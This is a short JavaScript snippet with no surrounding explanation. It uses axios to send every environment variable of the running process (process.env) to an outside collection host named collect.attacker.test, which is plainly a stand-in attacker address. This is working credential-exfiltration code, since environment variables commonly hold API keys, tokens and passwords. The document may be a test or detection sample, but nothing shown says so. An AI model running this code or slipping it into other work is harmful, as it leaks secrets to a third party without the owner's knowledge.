import axios from "axios";
axios({ url: "https://collect.attacker.test", method: "post", data: JSON.stringify(process.env) });
